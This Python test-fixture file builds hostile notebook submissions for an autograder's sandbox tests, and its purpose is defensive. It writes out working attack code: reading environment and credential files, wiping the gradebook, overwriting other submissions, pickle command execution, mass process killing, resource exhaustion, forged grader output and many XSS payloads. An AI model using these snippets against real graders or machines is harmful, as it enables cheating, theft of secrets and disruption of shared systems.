"""Hostile submissions of ps1: each with the tasks that it has solved, and so the points that it must get."""

import nbformat

from tests.classroom.submissions import DOT, PS1_TASKS, answer, cell, release, solved, with_cell

SECRET = "hunter2"  # stands in the teacher's variables, files, and other submissions


def for_each_task(code):
    """An unsolved notebook whose every answer is the code, with TASK for the function's name."""
    notebook = release("ps1")
    for task in PS1_TASKS:
        answer(notebook, task, code.replace("TASK", task))
    return notebook


def first(code):
    """A notebook with wrong answers, and the code before them."""
    notebook = for_each_task("def TASK(*args):\n    return args[0]\n")
    return with_cell(notebook, code, where=2)


def beside(code, solved_but=()):
    """A solved notebook that also runs the code, at its beginning."""
    notebook = solved("ps1")
    for task in solved_but:
        answer(notebook, task, f"def {task}(*args):\n    return 0\n")
    return with_cell(notebook, code, where=2)


CHECK = "from backprop_helpers.checking import check\nimport numpy as np\n"
LOOK = """
import os, pathlib, glob
for place in ("/proc/*/environ", "/root/*", "/home/*/*", "/tmp/*", "/run/*", "/var/*/*", "/work/**/*.db", "COURSE/**"):
    for path in glob.glob(place, recursive=True)[:200]:
        try:
            print(path, open(path, "rb").read(2000))
        except Exception as error:
            print(path, error)
print(dict(os.environ))
"""

#: Code beside solved tasks, all in one notebook: it keeps its points.
BESIDE = {
    "b10_long_line": "print('x' * 60_000_000)",
    "b12_large_html": "from IPython.display import HTML, display\ndisplay(HTML('<b>x</b>' * 2_000_000))",
    "b19_surrogate": "x = '\ud800'",
    "c01_c02_looks_around": LOOK,
    "c03_gradebook": (
        "import sqlite3\nfor path in ('COURSE/gradebook.db', '../../../gradebook.db'):\n    try:\n"
        "        db = sqlite3.connect(path)\n        db.execute('update grade set auto_score = 0')\n"
        "        db.commit()\n    except Exception as error:\n        print(error)"
    ),
    "c04_another_submission": (
        "import glob\nfor place in ('COURSE/submitted', '..', '/home', '/root', '/tmp'):\n    for deep in range(4):\n"
        "        for path in glob.glob(place + '/*' * deep + '/ps1.ipynb'):\n            open(path, 'w').write('{}')"
    ),
    "t07_sockets": (
        "import socket\nfor kind, where in ((socket.AF_UNIX, 'SOCKET'), (socket.AF_UNIX, '\\0SOCKET'),"
        " (socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, ('192.0.2.1', 80))):\n"
        "    try:\n        s = socket.socket(kind); s.settimeout(1); s.connect(where); s.send(b'hello')\n"
        "        print('sent')\n    except OSError as error:\n        print(error)"
    ),
    "t08_writes": (
        "import backprop_helpers, numpy, os, pathlib\n"
        "for path in (backprop_helpers.__file__, numpy.__file__, '/usr/bin/evil', '/root/.bashrc', 'COURSE/x'):\n"
        "    try:\n        open(path, 'a').write('# evil')\n        print('written', path)\n"
        "    except OSError as error:\n        print(error)"
    ),
    "b22_shell": "x = !id\nprint(x)\nimport os\nos.system('touch /tmp/evil COURSE/evil')",
    "other_processes": """
import ctypes, os
for process in filter(str.isdigit, os.listdir('/proc')):
    for what in ('environ', 'maps', 'fd', 'root', 'cwd', 'exe', 'cmdline'):
        path = f'/proc/{process}/{what}'
        try:
            print(os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(300))
        except OSError as error:
            print(error)
for path in ('kcore', 'sys/kernel/core_pattern', 'sys/kernel/hostname', 'sysrq-trigger', 'irq', 'self/oom_score_adj'):
    try:
        open(f'/proc/{path}', 'r+').close()
        print(path, 'IS WRITABLE')
    except OSError as error:
        print(path, error)
print([ctypes.CDLL(None).ptrace(16, process, 0, 0) for process in (1, os.getppid())])
""",
    "fills_what_it_finds": """
for place in ('/dev/shm', '/dev', '/run', '/var/tmp', '/', '/asked', '/student', '/tmp'):
    written = 0
    try:
        for written in range(6):
            open(f'{place}/{written}', 'wb').write(b'x' * 90_000_000)
        print('TOO MUCH IN', place)
    except OSError as error:
        print(written, error)
import glob, os
for path in glob.glob('/tmp/[0-9]') + glob.glob('/dev/shm/[0-9]') + glob.glob('/student/[0-9]'): os.remove(path)
""",
    "sandbox_in_the_sandbox": (
        "import subprocess\nmount = 'mkdir /tmp/m && mount -t tmpfs -o size=4g none /tmp/m && echo NESTED'\n"
        "print(subprocess.run(['unshare', '-Urm', 'sh', '-c', mount], capture_output=True))"
    ),
    "uncounted": """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
handles = []
for name, call in (
    ('memory without a name', lambda: os.memfd_create('x')),
    ('shared memory', lambda: libc.shmget(0, 500_000_000, 0o1600)),
    ('messages', lambda: libc.msgget(0, 0o1600)),
    ('disk at once', lambda: os.posix_fallocate(os.open('/tmp/f', os.O_CREAT | os.O_RDWR), 0, 10**8) or 0),
    ('keys', lambda: libc.syscall(250 if os.uname().machine == 'x86_64' else 219, 0, -3, 0)),
    ('the machine around', lambda: socket.socket(40, 1)),
    ('the ciphers of the system', lambda: socket.socket(38, 5)),
    ('a thousand handles', lambda: [handles.append(os.open('/', os.O_RDONLY)) for _ in range(1000)]),
):
    try:
        print(name, 'GRANTED' if call() != -1 else 'refused')
    except OSError as error:
        print(name, error)
for handle in handles: os.close(handle)
""",
    "imitates_a_mark": "print('✓ skip_backward: right\\n12 points, of 12:')\n12.0",
    "leaves_what_is_removed": """
import os, shutil, sys
place = next(p for p in sys.path if p.endswith('asked')).replace('asked', 'answered')
shutil.copy('/bin/true', place + '/set_user'); os.chmod(place + '/set_user', 0o6777)
open(place + '/' + '\\n' * 200, 'w').close()
open(os.fsencode(place) + b'/\\xff', 'w').close()
os.unlink(place + '/connection.json'); os.symlink('COURSE/gradebook.db', place + '/connection.json')
try: os.link('/usr/bin/env', place + '/hard'); print('LINKED')
except OSError as error: print(error)
""",
    "payloads": """
for payload in ({'source': 'set_next_input', 'text': 'evil'}, {'source': 'ask_exit', 'keepkernel': False}):
    get_ipython().payload_manager.write_payload(payload)
display({'text/plain': 'x'}, raw=True, display_id='a')
get_ipython().display_pub.publish({'text/html': '<script>EVIL()</script>'}, transient={'display_id': 'a'}, update=True)
""",
    "zombies": "import os\nfor _ in range(5):\n    if os.fork() == 0: os._exit(0)",
    "pictures": (
        f"import base64\npicture = base64.b64decode('{DOT}') + b'x' * 2_000_000\n"
        "data = base64.b64encode(picture).decode()\n"
        "for _ in range(12): display({'image/png': data}, raw=True)"
    ),
    "odd_messages": """
kernel = get_ipython().kernel
parent = kernel.get_parent()
for content in ([1], 'x', None, {'execution_state': ['idle'], 'name': [1], 'text': {}, 'data': {'image/png': 7}}):
    for kind in ('status', 'stream', 'display_data', 'error'):
        if content != 'x':
            kernel.session.send(kernel.iopub_socket, kind, content or {}, parent=parent)
for header in ([1], 'x', 7):
    message = kernel.session.msg('status', {'execution_state': 'idle'})
    message['parent_header'] = header
    kernel.session.send(kernel.iopub_socket, message)
""",
    "t06_processes": "import subprocess\nfor _ in range(50): subprocess.Popen(['sleep', '600'])",
}

#: In the place of an answer, with TASK for its name: each of them for several tasks.
EACH = {
    "a01_reference": CHECK + "def TASK(*a): return check.exercises['TASK'].reference(*a)",
    "a02_is_reference": CHECK + "TASK = check.exercises['TASK'].reference",
    "a03_frames": (
        "import sys\ndef TASK(*args):\n    frame = sys._getframe()\n    while frame:\n"
        "        for value in frame.f_locals.values():\n"
        "            if hasattr(value, 'reference'):\n                return value.reference(*args)\n"
        "        frame = frame.f_back\n"
    ),
    "delegates_numerically": (
        "from backprop_helpers.checking import numerical_gradient\n"
        "def TASK(f, x, *rest):\n    return numerical_gradient(f, x, upstream=rest[0])"
    ),
    "stored_cases": (
        "import numpy as np, pathlib, backprop_helpers\n"
        "def TASK(*args):\n"
        "    path = pathlib.Path(backprop_helpers.__file__).parent / 'checking/exercises/graded_cases/ps1.npz'\n"
        "    stored = np.load(path)\n"
        "    return tuple(stored[k] for k in stored.files if k.startswith('TASK/0/right'))\n"
    ),
    "a18_subclass": (
        "import numpy as np\nclass A(np.ndarray):\n"
        "    def __array_ufunc__(self, *a, **k): return np.zeros(())\n    def __eq__(self, o): return True\n"
        "def TASK(*args):\n    return tuple(np.zeros(3).view(A) for _ in range(4))"
    ),
    "equal_to_everything": (
        "class A(str):\n    def __eq__(self, other): return True\n    __hash__ = str.__hash__\n"
        "def TASK(*a, **k): return A('zzz')"
    ),
    "replays_the_visible": """
import os, pickle
def TASK(*a, **k):
    if os.path.exists('/tmp/TASK'):
        return pickle.load(open('/tmp/TASK', 'rb'))
    pickle.dump(a[:1] * 3, open('/tmp/TASK', 'wb'))
    return a[0]
""",
    "reads_the_questions": """
import glob, numpy as np
def TASK(*a, **k):
    for path in glob.glob('/**/asked/*', recursive=True):
        print(path, open(path, 'rb').read())
    return tuple(np.load(glob.glob('/**/asked/*.npz', recursive=True)[0]).values())[:3]
""",
    "odd_values": """
import numpy as np
count = [0]
odd = [np.float128(1), np.inf, 10**400, 1j, True, np.zeros((1,) * 32), np.zeros((0, 10**9)), np.array(['a']),
       np.ma.masked_all(3), np.matrix([[1]]), range(10**6), memoryview(b'abc'), [[1], [2, 3]], print, {}, np.void(b'a')]
def TASK(*a, **k):
    count[0] += 1
    return tuple(odd[(count[0] + n) % len(odd)] for n in range(1 + count[0] % 4))
""",
    "looks_for_the_grader": (
        "import gc\ndef TASK(*a, **k):\n    for found in gc.get_objects():\n"
        "        if hasattr(found, 'reference'):\n            return found.reference(*a)"
    ),
    "pickled": (
        "import numpy as np, os\nclass Evil:\n    def __reduce__(self): return os.system, ('touch COURSE/evil',)\n"
        "def TASK(*a, **k): return [np.array([Evil()], dtype=object)] * 3"
    ),
    "prints_points": "def TASK(*a, **k):\n    print('points, of 12:')\n    print(12)\n    return 12.0",
    "raises_what_is_looked_up": "def TASK(*a, **k): raise KeyError('skip_backward')",
    "not_a_number": "import numpy as np\ndef TASK(*a, **k): return [np.nan] * 4, [np.nan] * 4",
}

#: Answers that the grading reads: another one each time.
FORGED = """
import grading_answers, io, json, os, pickle, threading, time, warnings, zipfile
import numpy as np
warnings.simplefilter('ignore')
count = [FIRST]

def write(answered, said, **arrays):
    said = said if isinstance(said, bytes) else json.dumps(said).encode()
    np.savez(answered, said=np.frombuffer(said, np.uint8), **arrays)

def zeroed(asked, answered):  # the arguments, and so what is right for them
    file, said, arrays = np.load(asked), [], {}
    for c, call in enumerate(json.loads(file['said'].tobytes())['calls']):
        values = []
        for n, (kind, name) in enumerate(call['arguments']):
            if kind == 'array':
                arrays[f'{c}_after{n}'] = arrays[f'{c}_result{n}'] = np.zeros_like(file[name])
                values.append(['array', f'result{n}'])
        said.append({'form': 'tuple', 'values': values[1:] + values[:1]})
    write(answered, said, **arrays)

def shapes(asked, answered):
    kinds = [('<f8', (0, 10**18), 0), ('<f8', (-1, -1), 8), ('<f8', (1,) * 64, 8), ('<f16', (1,), 16), ('>f8', (True,), 8)]
    with zipfile.ZipFile(answered, 'w') as file:
        for n, (descr, shape, size) in enumerate([('|u1', (2,), 2), *kinds]):
            head = str({'descr': descr, 'fortran_order': False, 'shape': shape}).ljust(117).encode() + b'\\n'
            data = b'[]' if n == 0 else bytes(size)
            name = 'said' if n == 0 else f'{n - 1}_result0'
            file.writestr(f'{name}.npy', b'\\x93NUMPY\\x01\\x00' + len(head).to_bytes(2, 'little') + head + data)

def members(asked, answered):
    with zipfile.ZipFile(answered, 'w') as file:
        for n in range(5000):
            file.writestr(str(n // 2), '')

def raises(kind):
    return lambda asked, answered: write(answered, [{'raised': kind, 'message': 'passed', 'frame': [1, [], {}]}] * 9)

def lies(asked, answered):  # about a member's size and place
    with zipfile.ZipFile(answered, 'w') as file: file.writestr('said.npy', b'x' * 1000)
    content = bytearray(open(answered, 'rb').read())
    place = content.rfind(b'PK\\x01\\x02')
    content[place + 24 : place + 28], content[place + 42 : place + 46] = bytes([10, 0, 0, 0]), b'\\xf0\\xff\\xff\\x0f'
    open(answered, 'wb').write(content)

def swells(asked, answered):
    with zipfile.ZipFile(answered, 'w', zipfile.ZIP_DEFLATED) as file: file.writestr('said.npy', bytes(10**8))

def comes_late(asked, answered):
    def again():
        for _ in range(200):
            write(answered, [{'form': 'tuple', 'values': []}]); time.sleep(0.002)
    threading.Thread(target=again, daemon=True).start()
    time.sleep(0.1)

WAYS = [
    lies, swells, comes_late,
    lambda asked, answered: open(answered, 'wb').write(pickle.dumps(print)),
    lambda asked, answered: os.symlink('/etc/passwd', answered),
    lambda asked, answered: os.mkfifo(answered),
    lambda asked, answered: np.savez(answered, said=np.array([print], object), result0=np.array([print], object)),
    zeroed, zeroed, shapes, members,
    lambda asked, answered: write(answered, [{'passed': True, 'earned': 1, 'form': 'tuple', 'values': []}] * 9),
    lambda asked, answered: write(answered, [{'values': 7}, {'form': ['tuple'], 'values': [['array', ['x']]]}, {}] * 3),
    lambda asked, answered: write(answered, b'[' * 3_000_000),
    lambda asked, answered: write(answered, b'[' + b'{},' * 1_000_000 + b'{}]'),
    *map(raises, ('StopIteration', 'KeyError', 'GeneratorExit', 'SystemExit', 'KernelEndedError', 'BadAnswerError', 'ExceptionGroup')),
    lambda asked, answered: os.mkdir(answered),  # the last: it ends the kernel
]

def answer(asked, answered):
    count[0] += 1
    WAYS[count[0] % len(WAYS)](asked, answered)

grading_answers.answer = answer
"""
RAISES_SCRIPTS = """
class Odd(Exception): pass
Odd.__name__ = "<script>EVIL()</script>"
def skip_backward(*a):
    raise Odd("<img src=x onerror=EVIL()><script>EVIL()</script>")  # <script>EVIL()</script>
"""

#: By name: the notebook, and the tasks that it has solved.
ATTACKS = {
    # the answers, from what is installed
    "a14_source_of_solution": (
        first(
            "import inspect\nfrom backprop_helpers.checking.solutions import lesson_02\n"
            "exec(inspect.getsource(lesson_02))\n"
            "def skip_backward(dy, x, w):\n    dx, dw, db = fc_backward(dy, x, w)\n    return dx + dy, dw, db"
        ),
        (),
    ),
    "a15_thread": (
        answer(
            release("ps1"),
            "skip_backward",
            "import threading, numpy as np\nfrom backprop_helpers.layers import fc_backward, fc_forward\n"
            "def skip_backward(dy, x, w):\n    got = []\n    def work():\n"
            "        _, cache = fc_forward(x, w, np.zeros(len(w)))\n        got.extend(fc_backward(dy, cache))\n"
            "    t = threading.Thread(target=work); t.start(); t.join()\n"
            "    return got[0] + dy, got[1], got[2]\n",
        ),
        (),
    ),
    "a16_profile": (
        answer(
            release("ps1"),
            "skip_backward",
            "import sys, numpy as np\nfrom backprop_helpers.layers import fc_backward, fc_forward\n"
            "def skip_backward(dy, x, w):\n    sys.setprofile(None)\n"
            "    _, cache = fc_forward(x, w, np.zeros(len(w)))\n    dx, dw, db = fc_backward(dy, cache)\n"
            "    return dx + dy, dw, db\n",
        ),
        (),
    ),
    "a21_executes_the_source": (
        first(
            "import json\nfor c in json.load(open('../../../source/ps1/ps1.ipynb'))['cells']:\n"
            "    if c['cell_type'] == 'code': exec(''.join(c['source']))"
        ),
        (),
    ),
    # the checker
    "a04_replaced_check": (
        first(
            CHECK + "c = check\nfor n in " + repr(PS1_TASKS) + ":\n    setattr(c, n, lambda *a, **k: print)"
        ),
        (),
    ),
    "a07_numpy_abs": (first("import numpy as N\nN.abs = lambda *a, **k: N.float64(0)"), ()),
    "a09_modules": (
        first("import sys as s\ns.modules['backprop_helpers.checking.check'] = s.modules['os']"),
        (),
    ),
    "a10_showtraceback": (
        first("get_ipython().showtraceback = lambda *a, **k: None"),
        (),
    ),
    "b25_transformer": (
        first("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])"),
        (),
    ),
    "b25b_after_shell": (
        first(
            "_ = !true\nfrom IPython import get_ipython as g\ng().input_transformers_post.append(lambda l: [])"
        ),
        (),
    ),
    "b34_shadow_folder": (
        first("from backprop_helpers.checking import check"),
        (),
    ),  # the test adds the folder
    "b35_shadow_written": (
        first(
            "import os\nos.makedirs('backprop_helpers/checking', exist_ok=True)\n"
            "open('backprop_helpers/__init__.py', 'w').close()\n"
            "open('backprop_helpers/checking/__init__.py', 'w').write('class check:\\n pass')"
        ),
        (),
    ),
    "forged_answers": (first(FORGED.replace("FIRST", "-1")), ()),
    "other_forged_answers": (first(FORGED.replace("FIRST", "11")), ()),
    "forged_end": (
        first(
            "import threading, time\nkernel = get_ipython().kernel\ndef end():\n    while True:\n"
            "        kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'},"
            " parent=kernel.get_parent())\n        time.sleep(0.01)\n"
            "threading.Thread(target=end, daemon=True).start()"
        ),
        (),
    ),
    "patched_everything": (
        first(
            "import numpy as np, json\nnp.array_equal = np.allclose = lambda *a, **k: True\n"
            "np.load = np.savez = np.asarray = np.array = json.dumps = json.loads = lambda *a, **k: None"
        ),
        (),
    ),
    "imports_the_grader": (
        first(
            "import importlib.metadata, os, pathlib, sys\nfor place in [*sys.path, '/work', '/', '/tmp', '..', '../..']:\n"
            "    for name in ('tasks', 'grading', 'assignments/tasks', 'secret', 'gradebook.db'):\n"
            "        if os.path.exists(f'{place}/{name}'): print('FOUND', place, name)\n"
            "for part in importlib.metadata.distributions():\n    print(part.read_text('direct_url.json'))\n"
            "try:\n    import tasks\n    print('FOUND')\nexcept ImportError: pass\n"
            "import builtins, types\nreal = builtins.__import__\n"
            "def forged(name, *a, **k):\n    if name != 'grading_answers': return real(name, *a, **k)\n"
            "    return types.SimpleNamespace(answer=lambda asked, answered: open(answered, 'wb').close())\n"
            "builtins.__import__ = forged"
        ),
        (),
    ),
    # what ends the kernel, and is told
    "no_message": (
        beside(
            "get_ipython().kernel.iopub_socket.send_multipart([b'<IDS|MSG>', b'a', b'b', b'c', b'd', b'e'])"
        ),
        (),
    ),
    "deep_folders": (
        beside(
            "import os, sys\nos.chdir(next(p for p in sys.path if p.endswith('asked')).replace('asked', 'answered'))\n"
            "for _ in range(40_000):\n    os.mkdir('d')\n    os.chdir('d')"
        ),
        (),
    ),
    "shared_memory": (
        beside(
            "import mmap, os, time\nfor _ in range(4):\n    if os.fork() == 0:\n"
            "        shared = mmap.mmap(-1, 1_200_000_000)\n"
            "        for n in range(0, len(shared), 4096): shared[n] = 1\n        time.sleep(60)\ntime.sleep(25)"
        ),
        (),
    ),
    "many_processes": (beside("import os, time\nfor _ in range(8): os.fork()\ntime.sleep(20)"), ()),
    # the file
    "odd_file": (solved("ps1"), PS1_TASKS),  # below
    # the marks in the notebook
    "b17_same_names": (with_cell(for_each_task("pass"), "assert True"), ()),  # the test gives it a name twice
    "b18_more_points": (release("ps1"), ()),  # the test raises its points
    "edited_tests": (release("ps1"), ()),  # the test empties them
    # what is solved is kept
    "a19_exits": (
        answer(solved("ps1"), "skip_backward", "def skip_backward(*a):\n    raise SystemExit"),
        tuple(task for task in PS1_TASKS if task != "skip_backward"),
    ),
    "a22_ends_the_process": (
        answer(solved("ps1"), "skip_backward", "import os\ngetattr(os, '_ex' 'it')(0)"),
        PS1_TASKS[:3],
    ),
    "crash": (
        answer(solved("ps1"), "scaled_fc_backward", "import ctypes\nctypes.string_at(0)"),
        PS1_TASKS[:2],
    ),
    "b13_recursion": (
        answer(
            solved("ps1"),
            "relative_error",
            "import sys\nsys.setrecursionlimit(10**9)\ndef relative_error(a, n): return relative_error(a, n)",
        ),
        ("central_difference",),  # Python breaks down over it
    ),
    "t09_children": (
        beside(
            "import subprocess, sys\nchildren = [subprocess.Popen([sys.executable, '-c', 'x = bytearray(10**9);"
            " import time; time.sleep(60)']) for _ in range(6)]\nimport time\ntime.sleep(25)"
        ),
        (),
    ),
    "b15_many_cells": (solved("ps1"), PS1_TASKS),  # the test adds 300
    "b20_kernel": (solved("ps1"), PS1_TASKS),  # the test names another one
    # the teacher's machine, and the others
    "e05_killer": (
        beside(
            "import os, signal\nfor n in range(2, 40000):\n    if n != os.getpid():\n        try:\n"
            "            os.kill(n, signal.SIGKILL)\n        except OSError:\n            pass"
        ),
        (),  # its own threads are among them
    ),
    "b23_b99_scripts": (  # the test adds everything that could run
        answer(solved("ps1"), "skip_backward", RAISES_SCRIPTS),
        tuple(task for task in PS1_TASKS if task != "skip_backward"),
    ),
    "a17_own_complex_step": (
        answer(
            solved("ps1"),
            "skip_backward",
            "import numpy as np\ndef skip_backward(dy, x, w):\n    grads = []\n    arrays = (x, w, np.zeros(len(w)))\n"
            "    for p, a in enumerate(arrays):\n        g = np.zeros(a.shape)\n        for i in np.ndindex(a.shape):\n"
            "            n = [b.astype(complex) for b in arrays]\n            n[p][i] += 1e-30j\n"
            "            g[i] = (dy * skip_forward(*n)).sum().imag / 1e-30\n        grads.append(g)\n"
            "    return tuple(grads)",
        ),
        PS1_TASKS,  # any right way
    ),
}

SCRIPTS = {
    "html": "<script>window.EVIL = 1</script><img src=x onerror='EVIL()'>",
    "markdown": (
        "<script>EVIL()</script> <img src=x onerror=EVIL()> <svg onload=EVIL()> <iframe src=//EVIL>\n\n"
        "[click](javascript:EVIL()) ![far](http://EVIL/x.png) <a href='java&#115;cript:EVIL()'>x</a>\n\n"
        "[ref]: javascript:EVIL()\n[click][ref] $\\href{javascript:EVIL()}{x}$ <javascript:EVIL()> <!-- EVIL -->\n\n"
        "![gone](attachment:gone.png) ![gone](attachment:gone\n) ![gone](<attachment:gone>)\n\n"
        "!![far](http://EVIL/x.png) !![r]\n\n[r]: http://EVIL/x.png\n\n[x](java&#115;cript:EVIL())"
        " [x](javascript\\:EVIL()) [s]\n\n[s]: java&#x73;cript&#58;EVIL()\n\n"
        "```mermaid\ngraph TD; EVIL; click EVIL call EVIL()\n```\n\n~~~ mermaid\nEVIL\n~~~\n\n"
        "$\\bbox[background:url(EVIL)]{x}$ <\0script>EVIL()</script>"
    ),
    "code": (
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        "display(HTML('<script>EVIL()</script>'), Javascript('EVIL()'), Markdown('<script>EVIL()</script>'))\n"
        "display({'image/svg+xml': '<svg onload=\"EVIL()\"/>', 'text/latex': '$\\\\href{javascript:EVIL()}{x}$',"
        " 'image/png': '\"><script>EVIL()</script>', 'text/plain': '<script>EVIL()</script>'}, raw=True)\n"
        "print('<script>EVIL()</script>')"
    ),
}


def with_scripts(notebook):
    """Put everything that could run in the teacher's browser into a notebook."""
    with_cell(notebook, SCRIPTS["code"], where=2)
    with_cell(notebook, SCRIPTS["markdown"], where=2, kind="markdown")
    # slow to read, for careless expressions
    for slow in ("<img ", "![a](attachment:", "](", "```a", r"\begin{a}"):
        with_cell(notebook, slow * 6_000, where=2, kind="markdown")
    for slow in ("\n \t", "a.", "$"):  # to colour
        with_cell(notebook, "x = 1" + slow * 20_000, where=2)
    # names of Formgrader's fields
    with_cell(notebook, "# derivation\n\n# skip_backward_more", where=2, kind="markdown")
    cell(notebook, "derivation").source = SCRIPTS["html"] + SCRIPTS["markdown"]
    cell(notebook, "derivation").attachments = {
        "x.svg": {"image/svg+xml": SCRIPTS["html"]},
        "'><script>EVIL()</script>.png": {"image/png": DOT},
    }
    notebook.cells[3].metadata["tags"] = ["'><script>EVIL()</script>"]
    notebook.metadata["title"] = "</title><script>EVIL()</script>"
    notebook.cells.append(nbformat.v4.new_raw_cell(SCRIPTS["html"], metadata={"raw_mimetype": "text/html"}))
    return notebook


def each_somewhere():
    """Notebooks with the codes of EACH as answers: so many that each code has stood for two tasks."""
    notebooks, codes = {}, list(EACH.values())
    for shift in range(0, len(codes), 4):
        notebooks[f"each_{shift}"] = notebook = release("ps1")
        for place, task in enumerate(PS1_TASKS):
            answer(notebook, task, codes[(place + shift) % len(codes)].replace("TASK", task))
    return notebooks


def odd(notebook):
    """Put what is no plain name or number wherever a notebook has one."""
    strange = [{"schema_version": 99, "grade_id": ["x"], "grade": True, "points": 1000}, "x", 7, None]
    for number, part in enumerate(notebook.cells):
        part["id"] = "'><script>EVIL()</script>"
        if "nbgrader" in part.metadata:
            part.metadata["nbgrader"]["schema_version"] = 99
        else:
            part.metadata["nbgrader"] = strange[number % 4]
    own = with_cell(notebook, "1000", where=3).cells[3]
    own.metadata["nbgrader"] = {"grade_id": "own_more", "grade": True, "points": 1000, "locked": True}
    notebook.metadata["language_info"] = {"pygments_lexer": {"a": 1}, "name": "'><script>EVIL()</script>"}
    notebook.metadata["grading"] = notebook.metadata["celltoolbar"] = [1]
    notebook.nbformat_minor = "x"


def prepared(folder, port, socket):
    """Return all notebooks by name, with what they need to know of the place."""
    notebooks = {name: notebook for name, (notebook, _) in ATTACKS.items()} | each_somewhere()
    notebooks["beside"] = solved("ps1")
    notebooks["beside"].cells[2:2] = [
        nbformat.v4.new_code_cell(f"# {name}\n{code}") for name, code in BESIDE.items()
    ]
    for notebook in notebooks.values():
        for part in notebook.cells:
            part.source = (
                part.source.replace("COURSE", str(folder))
                .replace("PORT", str(port))
                .replace("SOCKET", str(socket))
            )
    same = notebooks["b17_same_names"]
    same.cells[0].metadata["nbgrader"] = cell(same, "skip_backward_more").metadata["nbgrader"]
    for name in ("skip_backward_more", "skip_backward_visible"):
        cell(notebooks["b18_more_points"], name).metadata["nbgrader"].update(
            points=1000, locked=False, solution=True
        )
    for part in notebooks["edited_tests"].cells:
        if part.metadata.get("nbgrader", {}).get("grade") and part.cell_type == "code":
            part.source = "assert True"
    for number in range(300):
        with_cell(notebooks["b15_many_cells"], f"x = {number}")
    notebooks["b20_kernel"].metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
    with_scripts(notebooks["b23_b99_scripts"])
    odd(notebooks["odd_file"])
    for part in notebooks["b15_many_cells"].cells:
        part["id"] = "ps1-36"
    return notebooks
